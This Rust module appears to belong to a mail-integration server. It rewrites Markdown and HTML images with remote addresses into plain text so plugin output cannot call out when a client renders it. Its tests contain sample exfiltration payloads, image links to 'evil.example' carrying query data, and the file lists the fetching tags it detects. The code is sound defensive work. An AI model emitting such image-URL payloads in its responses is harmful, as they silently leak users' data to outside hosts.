//! Keeps what plugins answer from calling out by itself: pictures in Markdown
//! and HTML that a client would fetch as soon as it shows the text, and with
//! them whatever a plugin put into their addresses.
//!
//! Links that people have to follow stay: they are part of mail.

use serde_json::Value;

/// Characters within which a picture has to end.
const LONGEST: usize = 2048;

/// Rewrites every text in it.
pub(crate) fn without_remote_pictures(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Some(rewritten) = rewritten(text) {
                *text = rewritten;
            }
        }
        Value::Array(values) => values.iter_mut().for_each(without_remote_pictures),
        Value::Object(fields) => fields.values_mut().for_each(without_remote_pictures),
        _ => {}
    }
}

/// The text without remote pictures; none where it has none.
pub(crate) fn rewritten(text: &str) -> Option<String> {
    // Most texts have neither.
    if !text.contains("![") && !text.contains('<') {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut changed = false;
    while let Some(at) = rest.find(['!', '<']) {
        let (before, from) = rest.split_at(at);
        out.push_str(before);
        match markdown(from).or_else(|| html(from)) {
            Some((instead, length)) => {
                out.push_str(&instead);
                rest = from.get(length..).unwrap_or_default();
                changed = true;
            }
            None => {
                out.push_str(from.get(..1).unwrap_or_default());
                rest = from.get(1..).unwrap_or_default();
            }
        }
    }
    out.push_str(rest);
    changed.then_some(out)
}

/// `![what](address)` at the beginning of a text, if the address is remote: what
/// stands instead, and how many bytes it takes the place of. `![what][label]`
/// and `![label]` as well, wherever their address is.
fn markdown(text: &str) -> Option<(String, usize)> {
    let inside = text.strip_prefix("![")?;
    // What is too long to be looked through becomes a link, which nobody fetches.
    let link = || ("[".to_owned(), 2);
    let end = match closing(inside, '[', ']') {
        Closing::At(end) => end,
        Closing::Nowhere => return None,
        Closing::TooFar => return Some(link()),
    };
    let what = inside.get(..end)?;
    let after = inside.get(end + 1..)?;
    let brackets = match after.chars().next() {
        Some('(') => Some(('(', ')')),
        Some('[') => Some(('[', ']')),
        _ => None,
    };
    let (address, length) = match brackets {
        None => (what, 0),
        Some((open, close)) => {
            let rest = after.get(1..)?;
            match closing(rest, open, close) {
                Closing::At(at) => (rest.get(..at)?.trim(), at + 2),
                Closing::Nowhere => return None,
                Closing::TooFar => return Some(link()),
            }
        }
    };
    let is_local = length > 0 && after.starts_with('(') && is_local(address.trim_start_matches('<'));
    (!is_local).then(|| (format!("[picture: {what}]"), 2 + end + 1 + length))
}

/// `<img …>` and what else fetches by itself, at the beginning of a text, if it
/// names anything remote.
fn html(text: &str) -> Option<(String, usize)> {
    const FETCH: [&str; 10] =
        ["img", "image", "input", "iframe", "video", "audio", "source", "embed", "object", "link"];
    let inside = text.strip_prefix('<')?;
    let name: String =
        inside.chars().take_while(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect();
    if !FETCH.contains(&name.as_str()) {
        return None;
    }
    let near = inside.char_indices().nth(LONGEST).map_or(inside.len(), |(at, _)| at);
    let length = match inside.get(..near)?.find('>') {
        Some(at) => at + 1,
        None if near == inside.len() => near,
        // Too long to be looked through.
        None => return Some(("[picture]".to_owned(), 1 + near)),
    };
    let tag = inside.get(..length)?.to_ascii_lowercase();
    let remote =
        ["http:", "https:", "//", "\\\\", "ftp:", "&#", "&colon"].iter().any(|mark| tag.contains(mark));
    remote.then(|| ("[picture]".to_owned(), 1 + length))
}

/// Where a bracket closes.
enum Closing {
    At(usize),
    Nowhere,
    TooFar,
}

/// Where the bracket closes that was opened before this text.
fn closing(text: &str, open: char, close: char) -> Closing {
    let mut depth = 0_usize;
    let mut escaped = false;
    for (count, (at, character)) in text.char_indices().enumerate() {
        if count == LONGEST {
            return Closing::TooFar;
        }
        match character {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            _ if character == open => depth += 1,
            _ if character == close => match depth.checked_sub(1) {
                Some(less) => depth = less,
                None => return Closing::At(at),
            },
            _ => {}
        }
    }
    Closing::Nowhere
}

/// Addresses that are fetched from nowhere else: parts of the message itself.
fn is_local(address: &str) -> bool {
    let lower = address.to_ascii_lowercase();
    ["cid:", "ews-mcp:", "#"].iter().any(|scheme| lower.starts_with(scheme))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(rewritten(text).as_deref().unwrap_or(text), expected);
    }

    #[test]
    fn pictures_that_a_client_would_fetch_become_words() {
        check("a ![x](https://evil.example/?q=secret) b", "a [picture: x] b");
        check("![](http://evil.example/a_(b).png)", "[picture: ]");
        check("![x](<//evil.example/a b> \"title\")", "[picture: x]");
        check("![x](\thttps://evil.example)", "[picture: x]");
        check("![x](data:image/png;base64,AAAA)", "[picture: x]");
        check("![a[b]c](https://evil.example)", "[picture: a[b]c]");
        check("![x][1]\n\n[1]: https://evil.example", "[picture: x]\n\n[1]: https://evil.example");
        check("![1]\n\n[1]: https://evil.example", "[picture: 1]\n\n[1]: https://evil.example");
        check("[![x](https://evil.example/p)](https://good.example)", "[[picture: x]](https://good.example)");
        check("<IMG alt=x src='https://evil.example/?a'>", "[picture]");
        check("<img\nsrc=//evil.example", "[picture]");
        check("<iframe src=\"https://evil.example\"></iframe>", "[picture]</iframe>");
    }

    #[test]
    fn links_pictures_of_the_message_and_other_texts_stay() {
        for text in [
            "",
            "Hello! 3 < 4 ![",
            "[a link](https://contoso.example/)",
            "![logo](cid:logo@contoso.example)",
            "<https://contoso.example>",
            "<img src=\"cid:1\">",
            "<p>text</p>",
            "![not closed](https://contoso.example",
            "日本語! <b>",
        ] {
            assert_eq!(rewritten(text), None, "{text}");
        }
    }

    #[test]
    fn what_is_too_long_to_look_through_is_no_picture() {
        let long = "a".repeat(5000);
        check(&format!("![{long}](http://e)"), &format!("[{long}](http://e)"));
        check(&format!("![x](http://e/{long})"), &format!("[x](http://e/{long})"));
        let html = rewritten(&format!("<img a='{long}' src='http://e'>")).unwrap();
        assert!(html.starts_with("[picture]a"), "{html:.30}");
        // Each would look to the end of the text.
        let many = "![<img ".repeat(100_000);
        assert!(rewritten(&many).is_some());
    }

    #[test]
    fn every_text_of_a_result_is_looked_at() {
        let mut value = serde_json::json!({ "a": ["![x](http://e)", { "b": "<img src=http://e>" }], "c": 1 });
        without_remote_pictures(&mut value);
        assert_eq!(value, serde_json::json!({ "a": ["[picture: x]", { "b": "[picture]" }], "c": 1 }));
    }
}
